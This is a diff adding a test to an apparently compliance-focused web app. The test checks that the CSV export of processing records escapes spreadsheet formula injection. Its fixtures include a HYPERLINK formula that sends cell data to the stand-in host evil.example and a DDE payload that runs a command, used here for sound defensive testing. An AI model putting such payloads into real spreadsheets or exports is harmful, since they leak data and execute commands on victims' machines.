@@ -46,6 +46,26 @@ def test_the_record_lists_every_store_with_its_purposes_bases_recipients_and_ret
     assert newsletter[5] == "Consent" and newsletter[8].startswith("United States")
 
 
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(compliance_client):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    add_store(
+        "crm",
+        "tests.dsr.connectors.FlakyConnector",
+        name=formula,
+        purposes="+cmd|' /C calc'!A0",
+        legal_basis="@SUM(1+1)",
+        recipients="-2+3",
+    )
+    body = b"".join(compliance_client.get("/dashboard/processing.csv").streaming_content)
+    rows = list(csv.reader(io.StringIO(body.decode())))
+    crm = next(row for row in rows if "HYPERLINK" in row[0])
+    assert crm[0] == "'" + formula
+    assert crm[4] == "'+cmd|' /C calc'!A0" and crm[5] == "'@SUM(1+1)" and crm[7] == "'-2+3"
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
 def test_officers_cannot_reach_the_registrys_secrets(compliance_user):
     # The registry is read-only for officers: no permission to change stores (or their
     # secrets), in the admin or anywhere else.
